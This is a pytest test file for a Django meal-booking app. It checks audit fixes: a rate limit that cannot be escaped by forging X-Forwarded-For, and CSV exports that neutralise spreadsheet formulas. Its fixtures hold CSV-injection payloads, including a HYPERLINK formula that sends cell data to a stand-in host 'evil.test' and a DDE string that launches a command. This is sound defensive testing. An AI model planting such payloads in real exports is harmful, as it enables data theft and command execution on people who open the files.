"""What the client controls, refused at the cause (issue 13, OWASP ASVS level 1).

- The booking rate limit keys on an address the client cannot choose
  (``NUM_PROXIES``), and counts only bookings that validate.
- Every CSV cell a spreadsheet would read as a formula is neutralised.
- Dates, numbers, query parameters and URL tokens out of range are refused
  with a message (or a 400/404), never a 500, and bounded in the database too.
- Pages with personal data or money tell browsers not to keep them.
"""

import pytest
from django.test import Client, RequestFactory
from django.urls import reverse

from meals.models import Booking
from meals.ratelimit import client_ip

GOOD_BOOKING = {"name": "Odette", "email": "odette@example.org", "party_size": "1"}


def book(client, meal, **changes):
    return client.post(reverse("meals:book", args=[meal.pk]), {**GOOD_BOOKING, **changes})


# --- Finding 3: the rate limit trusts only the configured proxies -----------------


def request_from(remote_addr: str, forwarded: str | None = None):
    extra = {"REMOTE_ADDR": remote_addr}
    if forwarded is not None:
        extra["HTTP_X_FORWARDED_FOR"] = forwarded
    return RequestFactory().post("/", **extra)


@pytest.mark.parametrize(
    ("num_proxies", "remote_addr", "forwarded", "expected"),
    [
        # No proxy trusted: whatever the header says, the peer is the client.
        (0, "198.51.100.7", "1.2.3.4", "198.51.100.7"),
        (0, "198.51.100.7", None, "198.51.100.7"),
        # One proxy: the address it appended, not what the client sent before it.
        (1, "127.0.0.1", "6.6.6.6, 203.0.113.5", "203.0.113.5"),
        (1, "127.0.0.1", "203.0.113.5", "203.0.113.5"),
        (1, "127.0.0.1", " 2001:db8::1 ", "2001:db8::1"),
        # Two proxies (a CDN, then nginx): the address the CDN saw.
        (2, "127.0.0.1", "6.6.6.6, 203.0.113.5, 192.0.2.10", "203.0.113.5"),
        # Fewer entries than proxies, or no header, or garbage: the peer.
        (2, "127.0.0.1", "203.0.113.5", "127.0.0.1"),
        (1, "127.0.0.1", None, "127.0.0.1"),
        (1, "127.0.0.1", "", "127.0.0.1"),
        (1, "127.0.0.1", "6.6.6.6, not-an-address", "127.0.0.1"),
        (1, "127.0.0.1", "6.6.6.6, " + "9" * 300, "127.0.0.1"),
    ],
)
def test_client_ip_trusts_only_the_configured_number_of_proxies(
    settings, num_proxies, remote_addr, forwarded, expected
):
    settings.NUM_PROXIES = num_proxies
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")  # as with HTTPS=on
    assert client_ip(request_from(remote_addr, forwarded)) == expected


@pytest.mark.django_db
def test_a_random_forwarded_for_does_not_escape_the_booking_limit(meal, settings):
    settings.NUM_PROXIES = 0
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.BOOKING_RATE_LIMIT = "3/d"  # a day: no window boundary within the test
    statuses = [
        book(Client(HTTP_X_FORWARDED_FOR=f"10.1.{n}.{n}"), meal, email=f"g{n}@example.org").status_code
        for n in range(6)
    ]
    assert statuses == [302, 302, 302, 429, 429, 429]
    assert Booking.objects.count() == 3


@pytest.mark.django_db
def test_behind_one_proxy_the_left_part_the_client_forged_is_ignored(meal, settings):
    settings.NUM_PROXIES = 1
    settings.BOOKING_RATE_LIMIT = "2/d"
    # nginx with $proxy_add_x_forwarded_for appends the address it saw, 203.0.113.5.
    same_client = [
        book(Client(HTTP_X_FORWARDED_FOR=f"10.9.9.{n}, 203.0.113.5"), meal, email=f"g{n}@example.org").status_code
        for n in range(3)
    ]
    assert same_client == [302, 302, 429]
    # Another guest behind the same proxy (the same REMOTE_ADDR) is not limited with the first.
    other = Client(HTTP_X_FORWARDED_FOR="203.0.113.99")
    assert book(other, meal, email="other@example.org").status_code == 302


@pytest.mark.django_db
def test_invalid_booking_posts_do_not_count_against_the_limit(client, meal, settings):
    settings.BOOKING_RATE_LIMIT = "10/d"
    for _ in range(10):
        assert client.post(reverse("meals:book", args=[meal.pk]), {}).status_code == 400
    assert book(client, meal).status_code == 302
    assert Booking.objects.count() == 1


@pytest.mark.django_db
def test_valid_bookings_over_the_limit_still_get_429(client, meal, settings):
    settings.BOOKING_RATE_LIMIT = "2/d"
    statuses = [book(client, meal, email=f"g{n}@example.org").status_code for n in range(3)]
    assert statuses == [302, 302, 429]


# --- Finding 4: no spreadsheet formula in any CSV file ------------------------------

FORMULA = '=HYPERLINK("http://evil.test/?x="&A2,"Voir")'
# OWASP "CSV injection": a cell starting with one of these is read as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(response) -> list[str]:
    import csv
    import io

    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


@pytest.fixture
def hostile_rows(db, meal, coordinator):
    """Every kind of text a CSV file shows, each written by someone hostile."""
    from meals.models import Contribution

    meal.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    meal.save(update_fields=["title"])
    coordinator.first_name, coordinator.last_name = "+1+1", ""
    coordinator.save(update_fields=["first_name", "last_name"])
    # The guest of the issue: booked through the public form, offering to help.
    response = book(Client(), meal, name=FORMULA, email="evil@example.org", help_with="cooking")
    assert response.status_code == 302
    Contribution.objects.create(
        meal=meal,
        amount="5.00",
        method="cash",
        recorded_by=coordinator,
        voided_at=meal.starts_at,
        voided_by=coordinator,
        void_reason="-2+3\tplus",
    )
    Contribution.objects.create(meal=meal, amount="2.00", method="card", recorded_by=coordinator)
    return meal


def test_every_csv_export_neutralises_formulas(client, coordinator, hostile_rows):
    from meals.views.reports import CSV_KINDS

    client.force_login(coordinator)
    month = {"month": f"{hostile_rows.starts_at:%Y-%m}"}
    assert set(CSV_KINDS) == {"contributions", "attendance", "volunteers"}, "a new export: give it hostile rows"
    for kind in CSV_KINDS:
        response = client.get(reverse("meals:report_csv", args=[kind]), month)
        assert response.status_code == 200, kind
        cells = csv_cells(response)
        dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert not dangerous, (kind, dangerous)
        # The hostile text is there, kept readable behind the quote (the test is not vacuous).
        assert any(cell.startswith("'") for cell in cells), (kind, cells)
    volunteers = csv_cells(client.get(reverse("meals:report_csv", args=["volunteers"]), month))
    assert "'" + FORMULA in volunteers


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Odette", "Odette"),
        ("5,50", "5,50"),
        ("", ""),
        (12, "12"),
        (None, ""),
    ],
)
def test_spreadsheet_cell_prefixes_what_a_spreadsheet_would_evaluate(value, expected):
    from meals.spreadsheet import cell

    assert cell(value) == expected
